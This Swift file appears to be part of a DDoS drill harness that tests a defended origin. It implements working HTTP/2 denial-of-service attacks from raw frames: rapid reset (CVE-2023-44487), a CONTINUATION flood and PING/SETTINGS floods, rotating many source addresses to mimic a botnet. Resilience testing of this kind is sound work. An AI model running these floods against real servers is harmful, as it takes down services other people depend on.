import NIOCore
import NIOPosix
import RampartCore

/// S6: HTTP/2 abuse over TLS, written as raw frames (a real client library would refuse to send
/// them). Three kinds of connections, from attack-range sources:
/// - rapid reset (CVE-2023-44487): HEADERS for a complete GET, at once RST_STREAM(CANCEL), in
///   batches, paced to the plan's rate; a cut connection is reopened (a new TLS handshake);
/// - CONTINUATION flood: one HEADERS without END_HEADERS, then CONTINUATION frames without end;
/// - control-frame flood: PING and SETTINGS frames without end.
/// Every stream counts as one attack request; the origin's counters say how many got through.
extension DrillRunner {
    func http2Floods(rate: Double, start: Double, end: Double) -> [Attacker] {
        let resetWorkers = 16
        let perWorker = max(1, rate / Double(resetWorkers))
        var out: [Attacker] = []
        for w in 0..<resetWorkers {
            out.append { recorder in await self.rapidReset(worker: w, streamsPerSecond: perWorker, start: start, end: end, recorder: recorder) }
        }
        for w in 0..<4 {
            out.append { recorder in await self.frameFlood(worker: resetWorkers + w, continuation: true, start: start, end: end, recorder: recorder) }
            out.append { recorder in await self.frameFlood(worker: resetWorkers + 4 + w, continuation: false, start: start, end: end, recorder: recorder) }
        }
        return out
    }

    /// A TLS connection with ALPN h2 from `source`, the connection preface and an empty SETTINGS
    /// frame sent; nil when refused (banned, over a handshake budget, or down).
    private func h2Connection(from source: IPAddress) async -> (any Channel)? {
        guard let tls,
            let channel = try? await DrillConnection.openChannel(
                group: group, source: source, target: plan.target(for: source), timeout: .seconds(2), tls: tls, alpn: \.h2,
                handlers: { try $0.addHandler(DiscardInbound()) }
            )
        else { return nil }
        var buffer = channel.allocator.buffer(capacity: 64)
        buffer.writeString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        H2Frames.frame(&buffer, type: 0x4, flags: 0, stream: 0, payload: [])
        guard (try? await channel.writeAndFlush(buffer).get()) != nil else {
            try? await channel.close().get()
            return nil
        }
        return channel
    }

    private func rapidReset(worker: Int, streamsPerSecond: Double, start: Double, end: Double, recorder: Recorder) async {
        await sleep(until: start + Double(worker) * 0.01, recorder: recorder)
        let batch = 20
        let interval = Double(batch) / streamsPerSecond
        var n = worker
        while recorder.elapsed < end {
            // Each connection from the next of 64 sources (a botnet's members reconnect from many places).
            let source = attackSource(200_000 + n % 64)
            n += 16
            guard let channel = await h2Connection(from: source) else {
                recorder.attack(status: 0, at: recorder.elapsed)
                await pause(0.2)
                continue
            }
            var stream: UInt32 = 1
            var next = recorder.elapsed
            sending: while channel.isActive, recorder.elapsed < end, stream < 0x7fff_0000 {
                var buffer = channel.allocator.buffer(capacity: batch * 96)
                let t = recorder.elapsed
                for _ in 0..<batch {
                    guard recorder.reserve() else { break sending }
                    H2Frames.get(&buffer, stream: stream, authority: plan.host, path: "/?r=\(UInt32.random(in: 0...UInt32.max))")
                    H2Frames.frame(&buffer, type: 0x3, flags: 0, stream: stream, payload: [0, 0, 0, 8])  // RST_STREAM CANCEL
                    stream += 2
                    recorder.attack(status: 0, at: t)
                }
                guard (try? await channel.writeAndFlush(buffer).get()) != nil else { break }
                next += interval
                if next > recorder.elapsed { await sleep(until: next, recorder: recorder) } else { next = recorder.elapsed }
            }
            try? await channel.close().get()
        }
    }

    private func frameFlood(worker: Int, continuation: Bool, start: Double, end: Double, recorder: Recorder) async {
        await sleep(until: start + Double(worker) * 0.01, recorder: recorder)
        var n = worker
        while recorder.elapsed < end {
            let source = attackSource(300_000 + n % 64)
            n += 8
            guard recorder.reserve(), let channel = await h2Connection(from: source) else {
                recorder.attack(status: 0, at: recorder.elapsed)
                await pause(0.2)
                continue
            }
            recorder.attack(status: 0, at: recorder.elapsed)
            var first = true
            // Bounded: at most 100,000 frames per connection, and the attack window.
            var frames = 0
            while channel.isActive, recorder.elapsed < end, frames < 100_000 {
                var buffer = channel.allocator.buffer(capacity: 16 * 1024)
                for _ in 0..<100 {
                    if continuation {
                        if first {
                            // HEADERS with END_STREAM but no END_HEADERS: the block never ends.
                            var block: [UInt8] = [0x82, 0x87, 0x84]
                            H2Frames.literal(&block, index: 1, value: plan.host)
                            H2Frames.frame(&buffer, type: 0x1, flags: 0x1, stream: 1, payload: block)
                            first = false
                        }
                        var header: [UInt8] = []
                        H2Frames.literal(&header, name: "x-filler-\(frames % 1000)", value: String(repeating: "a", count: 64))
                        H2Frames.frame(&buffer, type: 0x9, flags: 0, stream: 1, payload: header)
                    } else if frames % 2 == 0 {
                        H2Frames.frame(&buffer, type: 0x6, flags: 0, stream: 0, payload: [0, 0, 0, 0, 0, 0, 0, UInt8(frames & 0xff)])  // PING
                    } else {
                        H2Frames.frame(&buffer, type: 0x4, flags: 0, stream: 0, payload: [0, 3, 0, 0, 0, 100])  // SETTINGS
                    }
                    frames += 1
                }
                guard (try? await channel.writeAndFlush(buffer).get()) != nil else { break }
                await pause(0.01)
            }
            try? await channel.close().get()
        }
    }
}

/// HTTP/2 frames and HPACK literals, enough for the attacks (no Huffman coding, no dynamic table).
enum H2Frames {
    static func frame(_ buffer: inout ByteBuffer, type: UInt8, flags: UInt8, stream: UInt32, payload: [UInt8]) {
        let n = payload.count
        buffer.writeBytes([UInt8(n >> 16 & 0xff), UInt8(n >> 8 & 0xff), UInt8(n & 0xff), type, flags])
        buffer.writeInteger(stream & 0x7fff_ffff)
        buffer.writeBytes(payload)
    }

    /// A HEADERS frame (END_STREAM, END_HEADERS) for `GET path` over https.
    static func get(_ buffer: inout ByteBuffer, stream: UInt32, authority: String, path: String) {
        var block: [UInt8] = [0x82, 0x87]  // :method GET, :scheme https (static table)
        literal(&block, index: 4, value: path)  // :path
        literal(&block, index: 1, value: authority)  // :authority
        literal(&block, index: 58, value: "Mozilla/5.0 (flood)")  // user-agent
        frame(&buffer, type: 0x1, flags: 0x5, stream: stream, payload: block)
    }

    /// Literal header field without indexing, name from the static table.
    /// The index is an HPACK integer with a 4-bit prefix: below 15 in the first octet, else 15 and
    /// the rest in the next (every index used here is below 15 + 128).
    static func literal(_ block: inout [UInt8], index: UInt8, value: String) {
        if index < 15 {
            block.append(index)
        } else {
            block.append(0x0f)
            block.append(index - 15)
        }
        string(&block, value)
    }

    /// Literal header field without indexing, new name.
    static func literal(_ block: inout [UInt8], name: String, value: String) {
        block.append(0x00)
        string(&block, name)
        string(&block, value)
    }

    /// A string literal, not Huffman coded; lengths up to 126 bytes in one octet, longer ones as
    /// HPACK integers with a 7-bit prefix.
    static func string(_ block: inout [UInt8], _ s: String) {
        let bytes = Array(s.utf8)
        var n = bytes.count
        if n < 127 {
            block.append(UInt8(n))
        } else {
            block.append(127)
            n -= 127
            while n >= 128 {
                block.append(UInt8(n & 0x7f) | 0x80)
                n >>= 7
            }
            block.append(UInt8(n))
        }
        block.append(contentsOf: bytes)
    }
}

/// Reads and drops what the server sends (SETTINGS, GOAWAY, responses).
final class DiscardInbound: ChannelInboundHandler, Sendable {
    typealias InboundIn = ByteBuffer
    func channelRead(context: ChannelHandlerContext, data: NIOAny) {}
    func errorCaught(context: ChannelHandlerContext, error: any Error) { context.close(promise: nil) }
}
